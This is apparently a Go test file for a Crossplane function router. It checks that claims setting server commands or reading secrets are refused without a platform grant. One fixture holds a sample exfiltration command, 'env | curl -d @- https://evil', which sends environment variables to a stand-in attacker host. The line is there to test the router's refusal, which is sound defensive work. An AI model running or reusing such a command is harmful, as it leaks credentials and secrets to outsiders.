package router_test

import (
	"strings"
	"testing"

	fnv1 "github.com/crossplane/function-sdk-go/proto/v1"

	"github.com/gorizond/koldun/functions/compose"
	"github.com/gorizond/koldun/functions/router"
	"github.com/gorizond/koldun/internal/engine/images"
)

// choosing are claims that choose what a server runs or reads, and the line that allows it.
func choosing() map[string]struct{ claim, field, grant string } {
	in := func(claim, runtime string) string { return claim + "spec: {modelRef: {name: m}, " + runtime + "}\n" }
	return map[string]struct{ claim, field, grant string }{
		"Command": {in(dllama, "engine: {server: {profile: vllm, command: [/bin/sh, -c, 'env | curl -d @- https://evil']}}"), "spec.engine.server.command", "serverCommands: true"},
		"Args":    {in(dllama, "rootImage: '"+images.VLLM+"', engine: {server: {args: [-c, env]}}"), "spec.engine.server.args", "serverCommands: true"},
		"From":    {in(dllama, "envFrom: [{secretRef: {name: s}}], engine: {server: {profile: vllm}}"), "spec.envFrom", "serverSecrets: [s]"},
		"Env":     {in(dllama, "env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}], engine: {server: {profile: vllm}}"), "spec.env[A]", "serverSecrets: [s]"},
		"Own":     {in(dllama, "engine: {server: {profile: vllm, env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}]}}"), "spec.engine.server.env[A]", "serverSecrets: [s]"},
		"Session": {in(session, "engine: {server: {profile: vllm, command: [sh]}}"), "spec.engine.server.command", "serverCommands: true"},
		"Pools":   {ingress0 + "spec: {backend: {engine: {server: {profile: vllm, command: [sh]}}}}\n", "spec.backend.engine.server.command", "serverCommands: true"},
		"AI":      {aideployment("engine: {name: vllm}, models: [{uri: a/b}], envFrom: [{secretRef: {name: s}}]"), "spec.envFrom", "serverSecrets: [s]"},
		"AIEnv":   {aideployment("engine: {name: vllm}, models: [{uri: a/b}], env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}, {name: B, valueFrom: {fieldRef: {fieldPath: metadata.name}}}]"), "spec.env[A]", "serverSecrets: [s]"},
		"Reader":  {orchestra + "spec: {applications: {a: {readerConfig: {modelName: a/b}, volumes: [{name: v, secret: {secretName: s}}]}}}\n", "spec.applications.a.volumes[v]", "serverSecrets: [s]"},
		"Token":   {orchestra + "spec: {applications: {a: {readerConfig: {modelName: a/b, accessTokenSecretRef: {name: s, key: k}}}}}\n", "spec.applications.a.readerConfig.accessTokenSecretRef", "serverSecrets: [s]"},
	}
}

// TestServersAreThePlatformsWhereLoginsAreShared has claims choose what servers run and read:
// where namespaces share a login only the platform may, elsewhere each may with what is its
// own.
func TestServersAreThePlatformsWhereLoginsAreShared(t *testing.T) {
	for name, c := range choosing() {
		t.Run(name, func(t *testing.T) {
			at := func(rules string, connections ...string) string {
				req := &fnv1.RunFunctionRequest{
					Observed:          &fnv1.State{Composite: object(t, c.claim)},
					RequiredResources: map[string]*fnv1.Resources{"platform": {}},
				}
				if rules != "" {
					req.RequiredResources["platform"].Items = []*fnv1.Resource{object(t, "apiVersion: apiextensions.crossplane.io/v1beta1\nkind: EnvironmentConfig\nmetadata: {name: koldun-platform}\ndata: {claims: [{namespaces: [ns], "+rules+"}]}")}
				}
				if connections != nil {
					req.RequiredResources["connections"] = &fnv1.Resources{}
				}
				for _, spec := range connections {
					req.RequiredResources["connections"].Items = append(req.RequiredResources["connections"].Items, object(t, "apiVersion: koldun.m.gorizond.io/v1alpha1\nkind: ClusterProviderConfig\nmetadata: {name: x}\nspec: "+spec))
				}
				rsp, err := router.New(compose.Config{Image: "koldun"}).RunFunction(t.Context(), req)
				if err != nil {
					t.Fatal(err)
				}
				refused := notAllowedFor(rsp)
				if refused != "" && len(rsp.GetDesired().GetResources()) > 0 {
					t.Errorf("it composes %d objects", len(rsp.GetDesired().GetResources()))
				}
				return refused
			}
			const shared, apart = "{sharedLogin: true}", "{nats: {url: 'nats://a'}}"
			for what, refused := range map[string]string{"Shared": at("", apart, shared), "Unknown": at(""), "OtherGrant": at("images: [x], serverSecrets: [other]", shared)} {
				if !strings.HasPrefix(refused, c.field+": ") || !strings.Contains(refused, strings.Split(c.grant, ":")[0]) {
					t.Errorf("%s: %q", what, refused)
				}
			}
			for what, refused := range map[string]string{"Apart": at("", apart), "Allowed": at(c.grant, shared), "SingleTeam": at("everything: true", shared)} {
				if refused != "" {
					t.Errorf("%s: %q", what, refused)
				}
			}
		})
	}
}
